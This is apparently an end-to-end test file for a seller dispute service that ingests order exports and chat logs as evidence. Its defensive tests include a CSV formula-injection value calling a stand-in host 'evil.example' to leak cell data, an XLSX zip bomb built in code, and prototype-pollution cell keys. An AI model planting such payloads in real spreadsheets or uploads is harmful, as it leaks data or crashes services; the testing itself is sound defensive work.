import ExcelJS from 'exceljs';
import iconv from 'iconv-lite';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { deflateRawSync } from 'node:zlib';
import request from 'supertest';
import {
  bearer,
  registerSeller,
  signedInAdmin,
  signedInStaff,
  SignedIn,
} from './factories/accounts';
import { fileCase } from './factories/cases';
import { inlineRow, sheetXml, workbookParts, zip } from './factories/xlsx';
import { binaryBody } from './helpers/binary-body';
import { eventually } from './helpers/eventually';
import { expectProblem } from './helpers/problem';
import { startTestApp, TestApp } from './helpers/test-app';

const TAOBAO_HEADER =
  '订单编号,买家会员名,买家实际支付金额,订单状态,订单创建时间,退款状态,退款金额';

interface EvidenceBody {
  id: string;
  status: string;
  error: string | null;
  extracted: { orderRows: number | null; badRows: number | null; layout: string | null };
  text?: string | null;
}

describe('order exports and chat logs', () => {
  let t: TestApp;
  let uploads: string;
  let seller: SignedIn;
  let moderator: SignedIn;
  let caseId: string;

  beforeAll(async () => {
    uploads = await mkdtemp(join(tmpdir(), 'bulwark-orders-e2e-'));
    t = await startTestApp({ UPLOADS_DIR: uploads, EVIDENCE_MAX_ORDER_ROWS: '50' });
    seller = await registerSeller(t);
    moderator = await signedInStaff(t, await signedInAdmin(t), 'moderator');
    caseId = (await fileCase(t, seller, { type: 'malicious_purchase' })).id;
  });
  afterAll(async () => {
    await t.app.close();
    await rm(uploads, { recursive: true, force: true });
  });

  /** Uploads one file and waits for the worker to finish with it. */
  async function settled(bytes: Buffer, fileName: string, kind?: string): Promise<EvidenceBody> {
    let form = request(t.http).post(`/v1/cases/${caseId}/evidence`).set(bearer(seller));
    if (kind) form = form.field('kind', kind);
    const [item] = (await form.attach('files', bytes, fileName).expect(202)).body;
    return eventually(async () => {
      const response = await request(t.http).get(`/v1/evidence/${item.id}`).set(bearer(seller));
      expect(response.body.status).toMatch(/^(processed|rejected)$/);
      return response.body as EvidenceBody;
    });
  }

  const recordsOf = (evidenceId: string) =>
    t.db.query(
      `SELECT row_number, order_id, buyer, amount::text, currency, ordered_at, refunded,
              refund_amount::text, seller_id
       FROM order_records WHERE evidence_id = $1 ORDER BY row_number`,
      [evidenceId],
    );

  it('reads a Taobao export in GBK into order records of the seller, counting bad rows', async () => {
    const csv = iconv.encode(
      `${TAOBAO_HEADER}\r\n` +
        '3318827765001,tb_buyer_8812,50.00,交易关闭,2026-11-18 09:12:00,退款成功,50.00\r\n' +
        '3.31883E+12,tb_mangled,19.90,交易成功,2026-11-18 10:00:00,,\r\n' +
        '3318827765003,小明,0.10,交易成功,2026-11-18 10:30:00,没有申请退款,0.00\r\n',
      'gbk',
    );
    const item = await settled(csv, 'ExportOrderList.csv');
    expect(item).toMatchObject({
      status: 'processed',
      extracted: { layout: 'taobao', orderRows: 2, badRows: 1 },
    });
    const records = await recordsOf(item.id);
    expect(records).toEqual([
      expect.objectContaining({
        row_number: 2,
        order_id: '3318827765001',
        buyer: 'tb_buyer_8812',
        amount: '50.00',
        currency: 'CNY',
        ordered_at: new Date('2026-11-18T01:12:00Z'),
        refunded: true,
        refund_amount: '50.00',
        seller_id: seller.id,
      }),
      expect.objectContaining({ row_number: 4, buyer: '小明', amount: '0.10', refunded: false }),
    ]);
    const first = await request(t.http)
      .get(`/v1/evidence/${item.id}/orders?limit=1`)
      .set(bearer(seller))
      .expect(200);
    expect(first.body.items).toEqual([
      expect.objectContaining({
        row: 2,
        orderId: '3318827765001',
        refunded: true,
        currency: 'CNY',
      }),
    ]);
    const second = await request(t.http)
      .get(`/v1/evidence/${item.id}/orders?limit=1&cursor=${first.body.nextCursor}`)
      .set(bearer(moderator))
      .expect(200);
    expect(second.body).toEqual({
      items: [expect.objectContaining({ row: 4, buyer: '小明', amount: '0.10' })],
      nextCursor: null,
    });
    const stranger = await registerSeller(t);
    expectProblem(
      await request(t.http).get(`/v1/evidence/${item.id}/orders`).set(bearer(stranger)),
      404,
    );
    expectProblem(
      await request(t.http).get(`/v1/evidence/${item.id}/orders?cursor=nope`).set(bearer(seller)),
      400,
    );

    const events = await request(t.http).get(`/v1/cases/${caseId}/timeline`).set(bearer(seller));
    expect(events.body.items).toContainEqual(
      expect.objectContaining({
        kind: 'evidence_processed',
        data: expect.objectContaining({ evidenceId: item.id, orderRows: 2, badRows: 1 }),
      }),
    );
  });

  it('reads an Amazon report and an XLSX export', async () => {
    const tsv = Buffer.from(
      'amazon-order-id\tpurchase-date\tbuyer-email\torder-status\titem-price\tcurrency\n' +
        '114-3941689-8772232\t2026-11-18T09:30:00+00:00\tabc@marketplace.amazon.com\tShipped\t12.99\tUSD\n',
    );
    const amazon = await settled(tsv, 'orders.tsv', 'order_export');
    expect(amazon.extracted).toMatchObject({ layout: 'amazon', orderRows: 1, badRows: 0 });
    expect(await recordsOf(amazon.id)).toEqual([
      expect.objectContaining({
        order_id: '114-3941689-8772232',
        amount: '12.99',
        currency: 'USD',
      }),
    ]);

    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('Orders');
    sheet.addRow(['Order ID', 'Buyer', 'Amount', 'Rating', 'Review']);
    sheet.addRow(['G-1', 'rater_1', 9.5, 1, '垃圾 scam']);
    sheet.addRow(['G-2', 'rater_2', 20, 5, 'great']);
    const xlsx = Buffer.from(await workbook.xlsx.writeBuffer());
    const generic = await settled(xlsx, 'orders.xlsx');
    expect(generic.extracted).toMatchObject({ layout: 'generic', orderRows: 2, badRows: 0 });
  });

  it('rejects an export without an order column, or with too many rows, and keeps no rows', async () => {
    const noOrders = await settled(Buffer.from('name,amount\nann,5\n'), 'people.csv');
    expect(noOrders.status).toBe('rejected');
    expect(noOrders.error).toMatch(/No column of order numbers/);

    const rows = Array.from({ length: 60 }, (_, index) => `A-${index},buyer${index},1.00`);
    const tooLong = await settled(
      Buffer.from(`order id,buyer,amount\n${rows.join('\n')}\n`),
      'big.csv',
    );
    expect(tooLong.status).toBe('rejected');
    expect(tooLong.error).toMatch(/more than 50 rows/);
    expect(await recordsOf(tooLong.id)).toEqual([]);
  });

  it('keeps a CSV with =HYPERLINK formulas byte for byte, and reads the formula as text', async () => {
    const csv = Buffer.from(
      'order id,buyer,review\n' +
        'H-1,"=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")",=1+2\n',
    );
    const item = await settled(csv, 'formula.csv');
    expect(item.status).toBe('processed');
    const original = await request(t.http)
      .get(`/v1/evidence/${item.id}/content`)
      .set(bearer(seller))
      .buffer(true)
      .parse(binaryBody)
      .expect(200);
    expect(Buffer.compare(original.body as Buffer, csv)).toBe(0);
    expect(await recordsOf(item.id)).toEqual([
      expect.objectContaining({ buyer: '=HYPERLINK("http://evil.example/?leak="&A1,"click")' }),
    ]);
  });

  it('refuses an XLSX zip bomb at upload, storing nothing, and the worker stays up', async () => {
    const before = Number((await t.db.query('SELECT count(*) AS n FROM evidence'))[0].n);
    const sheet = sheetXml(inlineRow(1, ['Order ID']) + inlineRow(2, ['A-1']));
    const bomb = {
      name: 'xl/media/zeros.bin',
      deflated: deflateRawSync(Buffer.alloc(200 * 1024 * 1024), { level: 9 }),
      declaredSize: 200 * 1024 * 1024,
    };
    const problem = expectProblem(
      await request(t.http)
        .post(`/v1/cases/${caseId}/evidence`)
        .set(bearer(seller))
        .attach('files', zip([...workbookParts({ sheet }), bomb]), 'orders.xlsx'),
      422,
    );
    expect(problem.errors[0].message).toMatch(/zip bomb/);
    expect(Number((await t.db.query('SELECT count(*) AS n FROM evidence'))[0].n)).toBe(before);
    const after = await settled(zip(workbookParts({ sheet })), 'small.xlsx');
    expect(after.extracted).toMatchObject({ orderRows: 1 });
  });

  it('reads an XLSX whose cells try prototype pollution without polluting anything', async () => {
    const prototypeKeys = Object.getOwnPropertyNames(Object.prototype);
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('Orders');
    sheet.addRow(['__proto__', 'Order ID', 'constructor', 'buyer', 'prototype']);
    sheet.addRow(['{"polluted":1}', 'P-1', 'polluted', '__proto__', 'constructor']);
    const item = await settled(Buffer.from(await workbook.xlsx.writeBuffer()), 'proto.xlsx');
    expect(item.extracted).toMatchObject({ layout: 'generic', orderRows: 1 });
    expect(await recordsOf(item.id)).toEqual([
      expect.objectContaining({ order_id: 'P-1', buyer: '__proto__' }),
    ]);
    // The worker runs in this process: its Object.prototype is this test's.
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(Object.getOwnPropertyNames(Object.prototype)).toEqual(prototypeKeys);
  });

  it('keeps a chat log’s text for moderators, not in the seller’s view', async () => {
    const log = iconv.encode('2026-11-18 09:40 对方: 加我QQ 2847561923，给50元删差评\r\n', 'gbk');
    const item = await settled(log, 'chat.txt');
    expect(item.status).toBe('processed');
    expect(item.text).toBeUndefined();
    const staffView = await request(t.http).get(`/v1/evidence/${item.id}`).set(bearer(moderator));
    expect(staffView.body.text).toBe('2026-11-18 09:40 对方: 加我QQ 2847561923，给50元删差评\r\n');
  });
});
